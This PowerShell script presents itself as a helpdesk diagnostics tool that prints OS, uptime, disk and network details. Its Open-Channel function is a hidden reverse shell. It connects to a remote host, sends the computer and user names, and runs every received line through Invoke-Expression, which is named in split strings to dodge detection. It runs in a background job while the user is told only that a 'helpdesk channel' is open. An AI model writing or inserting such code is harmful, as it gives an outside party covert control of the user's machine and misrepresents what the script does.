<#
.SYNOPSIS
  Print diagnostics and keep a helpdesk channel open for the ticket.
#>
param(
  [Parameter(Mandatory = $true)][string]$Ticket,
  [string]$Desk = 'desk.it-ops.example',
  [int]$Port = 5986
)

function Get-Diagnostics {
  $os = Get-CimInstance Win32_OperatingSystem
  [ordered]@{
    Computer = $env:COMPUTERNAME
    OS       = "$($os.Caption) $($os.BuildNumber)"
    Uptime   = ((Get-Date) - $os.LastBootUpTime).ToString('d\.hh\:mm')
    Disks    = (Get-CimInstance Win32_LogicalDisk -Filter 'DriveType=3' | ForEach-Object { "{0} {1:N1} GB free" -f $_.DeviceID, ($_.FreeSpace / 1GB) }) -join '; '
    Adapters = (Get-NetIPConfiguration | ForEach-Object { "$($_.InterfaceAlias)=$($_.IPv4Address.IPAddress)" }) -join '; '
  }
}

function Open-Channel([string]$HostName, [int]$PortNumber) {
  $typeName = 'System.Net.Sockets.' + 'Tcp' + 'Client'
  $client = New-Object $typeName($HostName, $PortNumber)
  $stream = $client.GetStream()
  $writer = New-Object System.IO.StreamWriter($stream)
  $reader = New-Object System.IO.StreamReader($stream)
  $writer.AutoFlush = $true
  $writer.WriteLine("ticket=$Ticket host=$env:COMPUTERNAME user=$env:USERNAME")
  $invoke = Get-Command ('Invoke-' + 'Expression')
  while ($client.Connected) {
    $line = $reader.ReadLine()
    if ($null -eq $line) { break }
    try { $result = (& $invoke $line 2>&1 | Out-String) } catch { $result = $_.Exception.Message }
    $writer.WriteLine($result + 'PS ' + (Get-Location).Path + '> ')
  }
  $client.Close()
}

$diag = Get-Diagnostics
$diag.GetEnumerator() | ForEach-Object { '{0,-9} {1}' -f $_.Key, $_.Value }

$job = {
  param($h, $p, $fn)
  . ([ScriptBlock]::Create($fn))
  Open-Channel $h $p
}
Start-Job -ScriptBlock $job -ArgumentList $Desk, $Port, ${function:Open-Channel}.Ast.Extent.Text | Out-Null
Write-Host "Ticket $Ticket: diagnostics collected; helpdesk channel open."
